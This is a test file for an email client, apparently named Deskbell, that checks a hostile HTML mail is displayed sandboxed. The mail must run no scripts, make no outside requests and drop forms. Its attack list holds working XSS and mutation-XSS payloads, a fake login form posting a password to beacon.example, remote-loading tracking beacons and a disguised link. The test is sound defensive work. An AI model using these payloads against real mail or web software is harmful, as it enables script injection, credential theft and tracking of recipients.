import { readFileSync } from 'node:fs'
import type { Frame } from 'playwright'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { eventually } from '../fakes/eventually.ts'
import { type BusinessWorld, connectBusiness, owner, startBusinessWorld } from './business-world.ts'
import { type Deskbell, launchDeskbell, newHome, removeHome } from './harness.ts'

/** Ways out of a mail that worked somewhere once: scripts, forms, frames, beacons, and nestings that parsers disagree on. */
const attacks = [
  '<script>document.title="pwned"</script>',
  '<img src=x onerror="document.title=\'pwned\'">',
  '<svg><script>document.title="pwned"</script></svg><svg onload="document.title=\'pwned\'">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=document.title=\'pwned\'&gt;">',
  '<form action="https://beacon.example/f"><input name="password" autofocus><button>Log in</button></form>',
  '<iframe src="https://beacon.example/frame"></iframe><object data="https://beacon.example/o"></object>',
  '<base href="https://beacon.example/"><meta http-equiv="refresh" content="0;url=https://beacon.example/r">',
  '<link rel="stylesheet" href="https://beacon.example/s.css"><link rel="dns-prefetch" href="//beacon.example">',
  '<img src="https://beacon.example/pixel.gif"><img srcset="https://beacon.example/2.gif 2x" src="//beacon.example/1.gif">',
  '<picture><source srcset="https://beacon.example/p.webp"><img src="https://beacon.example/p.png"></picture>',
  '<table background="https://beacon.example/t.png"><tr><td style="background:u\\72l(https://beacon.example/c.png)">x</td></tr></table>',
  '<style>@import "https://beacon.example/i.css"; p{background:url(https://beacon.example/b.png)} @font-face{font-family:x;src:url(https://beacon.example/f.woff)}</style>',
  '<video poster="https://beacon.example/v.png" src="https://beacon.example/v.mp4" autoplay></video>',
  '<a href="javascript:document.title=\'pwned\'">script link</a>',
  '<a id="getElementById" name="querySelector" href="data:text/html,<script>1</script>">clobber</a>',
]
const picture = readFileSync(new URL('../../resources/icons/tray.png', import.meta.url)).toString('base64')

let world: BusinessWorld
let desk: Deskbell
const home = newHome()

beforeAll(async () => {
  world = await startBusinessWorld()
  desk = await launchDeskbell({ home, env: world.env })
  await connectBusiness(desk, world)
  // What was in the mailbox before it was connected is history, and history opens no leads.
  await eventually('the mailbox is connected', async () => {
    const answer = await desk.call('channels.list', {})
    return (
      answer.ok &&
      JSON.stringify(answer.value).includes('"kind":"email","label":"office@brightwater.example","state":"ok"')
    )
  })
})
afterAll(async () => {
  await desk?.kill()
  await world?.close()
  removeHome(home)
})

const inTheFrame = (read: (page: Document) => unknown, frame: Frame) => frame.evaluate(`(${read})(document)`)

test('a hostile mail is shown without running, loading or opening anything', async () => {
  const { page } = desk
  const asked: string[] = []
  page.on('request', (request) => asked.push(request.url()))
  const html = `<html><body><h2>Your offer</h2>${attacks.join('\n')}
    <img id="own" src="cid:own@mallory" width="32" height="32">
    <p><a href="https://login.beacon.example/account">https://bank.example</a></p></body></html>`
  await world.dovecot.append(owner, hostileMail(html))

  await page.getByRole('option', { name: /^Mallory/ }).click()
  await page.getByRole('button', { name: 'Show original' }).click()
  await page.getByText(/pictures? from the internet not loaded/).waitFor()
  const frame = await (await page.getByTitle('Original mail').elementHandle())?.contentFrame()
  if (!frame) throw new Error('the mail has no frame')
  await frame.getByText('Your offer').waitFor()
  await frame.getByText('script link').waitFor()

  expect(await page.title()).toBe('Deskbell')
  expect(asked.filter((url) => !/^(app|data|blob):/.test(url))).toEqual([])
  await expect
    .poll(() => page.getByTitle('Original mail').getAttribute('sandbox'))
    .not.toMatch(/scripts|same-origin|forms|top/)
  const left = await inTheFrame((it) => {
    const all = [...it.body.querySelectorAll('*')]
    return {
      acting: all.filter((e) =>
        /^(script|form|input|button|iframe|object|embed|link|meta|base|svg|math|video)$/i.test(e.tagName),
      ).length,
      handlers: all.flatMap((e) => [...e.attributes]).filter((a) => /^on/i.test(a.name)).length,
      beacons: all.filter(
        (e) =>
          !(e instanceof HTMLAnchorElement) &&
          e.cloneNode(false) instanceof Element &&
          (e.cloneNode(false) as Element).outerHTML.includes('beacon.example'),
      ).length,
      styles: [...it.querySelectorAll('style')].filter((e) => e.textContent?.includes('beacon.example')).length,
      schemes: [...it.querySelectorAll('a[href]')].map((a) => (a as HTMLAnchorElement).protocol),
    }
  }, frame)
  expect(left).toEqual({ acting: 0, handlers: 0, beacons: 0, styles: 0, schemes: ['https:'] })
  // The mail's own picture is there.
  await expect
    .poll(() => inTheFrame((it) => [...it.images].filter((image) => image.naturalWidth > 0).length, frame))
    .toBe(1)

  // A link opens nothing: first it says where it really leads.
  await frame.getByText('https://bank.example').click()
  const dialog = page.getByRole('dialog', { name: 'Open this link?' })
  await dialog.getByText('login.beacon.example', { exact: true }).waitFor()
  await dialog.getByRole('button', { name: 'Cancel' }).click()
  expect(desk.app.windows()).toHaveLength(1)
})

function hostileMail(html: string): string {
  return [
    'From: Mallory Grant <mallory@beacon.example>',
    `To: ${owner}`,
    'Subject: An offer',
    'Message-ID: <hostile-1@beacon.example>',
    `Date: ${new Date().toUTCString()}`,
    'MIME-Version: 1.0',
    'Content-Type: multipart/related; boundary="b1"',
    '',
    '--b1',
    'Content-Type: text/html; charset=utf-8',
    'Content-Transfer-Encoding: base64',
    '',
    Buffer.from(html).toString('base64').replace(/.{76}/g, '$&\r\n'),
    '--b1',
    'Content-Type: image/png',
    'Content-ID: <own@mallory>',
    'Content-Transfer-Encoding: base64',
    'Content-Disposition: inline; filename="own.png"',
    '',
    picture.replace(/.{76}/g, '$&\r\n'),
    '--b1--',
    '',
  ].join('\r\n')
}
